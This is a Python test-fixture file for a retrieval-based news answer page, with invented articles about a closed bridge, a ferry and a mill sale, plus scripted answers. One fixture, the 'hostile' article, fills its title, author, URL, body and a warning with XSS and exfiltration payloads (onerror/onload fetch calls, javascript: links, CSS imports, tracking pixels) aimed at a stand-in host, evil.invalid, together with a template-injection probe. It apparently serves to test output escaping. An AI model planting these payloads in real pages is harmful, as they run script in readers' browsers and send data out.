"""Invented articles for testing the page, and what each question to them gets."""

from __future__ import annotations

from dataclasses import dataclass

from rag.types import AnswerStatus, Article, Chip

BRIDGE = Article(
    id="lantern-bridge",
    title="Tarn bridge stays shut after divers find a second crack",
    outlet="Harbour Lantern",
    author="Mira Oldcastle",
    published="2026-11-11T09:14:00+01:00",
    url="https://lantern.example/tarn-bridge",
    kind="report",
    text=(
        "The Tarn bridge will stay closed until the spring, the county said on Wednesday, after divers found a "
        "second crack in its eastern pier.\n\n"
        "The crack is 40 centimetres long and runs below the waterline, county engineer Jon Aker told reporters. "
        "“We will not open a bridge that we would not drive our own children across,” he said.\n\n"
        "Some 9,200 vehicles crossed the bridge each day before it was shut on Oct. 28. Drivers now lose about "
        "25 minutes on the way round by Sandvik.\n\n"
        "Repairs are expected to cost 31 million crowns. 🌉 The county has not said who will pay."
    ),
)
COST = Article(
    id="tribune-cost",
    title="Who pays for the Tarn bridge?",
    outlet="Vale Tribune",
    agency="NPA",
    published="2026-11-12",
    url="https://tribune.example/2026/cost?utm_source=x",
    kind="opinion",
    page="7",
    text=(
        "Thirty-one million crowns is a lot of money for a county that closed two libraries this year.\n"
        "The state owns the road on both banks, and the state should pay for the bridge between them.\n"
        "Until it does, every driver pays with 25 minutes a day."
    ),
)
FERRY = Article(
    id="lantern-ferry",
    title="Free ferry for schoolchildren from Monday",
    outlet="Harbour Lantern",
    published="2026-11-09T17:40:00+01:00",
    url="https://lantern.example/ferry",
    kind="report",
    text=(
        "A ferry will carry schoolchildren across the Tarn free of charge from Monday.\n\n"
        "Sign up for our newsletter\n\n"
        "It leaves Nordby at 7.10 and 7.40 each school day and takes 18 minutes."
    ),
    furniture=((79, 105),),
)
UNDATED = Article(
    id="notice-moorings",
    title="Moorings at Nordby: notice to boat owners",
    outlet="Port of Nordby",
    kind="press_release",
    text="Boats must leave the inner moorings before the ferry service begins. The harbour master decides.",
)
HOSTILE = Article(
    id="hostile",
    title="<img src=x onerror=fetch('http://evil.invalid/t')> ![t](http://evil.invalid/title.png)",
    outlet="[Gazette](javascript:alert(1)) <b>bold</b>",
    author="<script>fetch('http://evil.invalid/author')</script>",
    published="2026-11-10",
    url="javascript:fetch('http://evil.invalid/url')",
    text=(
        "The harvest failed. <img src=x onerror=\"fetch('http://evil.invalid/body')\"> "
        "![pixel](http://evil.invalid/pixel.png) [click](javascript:alert(2)) "
        "<style>@import url(http://evil.invalid/style.css)</style> <iframe src=http://evil.invalid></iframe>\n\n"
        "```mermaid\ngraph TD; A[<img src='http://evil.invalid/mermaid.png'>]\n```\n\n"
        "</div></template><svg onload=fetch('http://evil.invalid/svg')> {{7*7}} \u202egnirts\u202c"
    ),
)


def _feature() -> Article:
    """A feature of 30,000 words whose cited sentence stands near its end."""
    words = (
        "the old mill by the river had stood empty since the floods and nobody in the village went there now"
    )
    paragraph = f"{words.capitalize()}; {words}, and so it went on for years."
    paragraphs = [f"{at + 1}. {paragraph}" for at in range(700)]
    paragraphs[640] = "In the end the mill was sold for 1.4 million crowns to a cooperative of weavers."
    return Article(
        id="feature-mill",
        title="The mill that outlived the river",
        outlet="Vale Tribune",
        published="2026-10-03",
        url="https://tribune.example/mill",
        kind="analysis",
        text="\n\n".join(paragraphs),
    )


MILL = _feature()


@dataclass(frozen=True)
class Script:
    """What one question gets: the outcome, and what each sentence says, on which words of which article it rests."""

    status: AnswerStatus
    rests_on: tuple[tuple[str, tuple[tuple[str, str], ...]], ...] = ()
    chips: tuple[Chip, ...] = ()
    undated_left_out: int = 0
    warnings: tuple[str, ...] = ()


CLOSED = "The Tarn bridge will stay closed until the spring"
SCRIPTS = {
    "Why is the Tarn bridge closed?": Script(
        "answered",
        (
            (
                "The Tarn bridge will stay closed until the spring, the county said on Wednesday, after divers "
                "found a second crack in its eastern pier.",
                (("lantern-bridge", BRIDGE.text[: BRIDGE.text.index("\n")]),),
            ),
            (
                "Repairs are expected to cost 31 million crowns.",
                (
                    ("lantern-bridge", "Repairs are expected to cost 31 million crowns."),
                    ("tribune-cost", "Thirty-one million crowns is a lot of money"),
                ),
            ),
            (
                "It leaves Nordby at 7.10 and 7.40 each school day and takes 18 minutes.",
                (
                    (
                        "lantern-ferry",
                        "It leaves Nordby at 7.10 and 7.40 each school day and takes 18 minutes.",
                    ),
                ),
            ),
        ),
    ),
    "What was the mill sold for?": Script(
        "answered",
        (
            (
                "In the end the mill was sold for 1.4 million crowns to a cooperative of weavers.",
                (("feature-mill", "In the end the mill was sold for 1.4 million crowns"),),
            ),
        ),
    ),
    "Who runs the harbour since last week?": Script(
        "closest",
        (
            ("The harbour master decides.", (("notice-moorings", "The harbour master decides."),)),
            (
                "Until it does, every driver pays with 25 minutes a day.",
                (("tribune-cost", "Until it does, every driver pays with 25 minutes a day."),),
            ),
        ),
        (Chip("from", "2026-11-02", "last week", "published since 2 Nov"),),
        undated_left_out=3,
    ),
    "What did the Vale Tribune report since last week?": Script(
        "closest",
        (("The harbour master decides.", (("notice-moorings", "The harbour master decides."),)),),
        (
            Chip("from", "2026-11-02", "since last week", "published since 2 Nov"),
            Chip("outlets", "Vale Tribune", "did the Vale Tribune report", "outlet Vale Tribune", "agencies"),
        ),
    ),
    "Tell me slowly": Script(
        "answered",
        tuple((f"{at}. {CLOSED}.", (("lantern-bridge", CLOSED),)) for at in range(1, 31)),
    ),
    "What happened to the harvest?": Script(
        "answered",
        (("The harvest failed.", (("hostile", HOSTILE.text),)),),
        warnings=("![w](http://evil.invalid/warning.png) <img src=http://evil.invalid/w>",),
    ),
}

ARTICLES = (BRIDGE, COST, FERRY, UNDATED, HOSTILE, MILL)
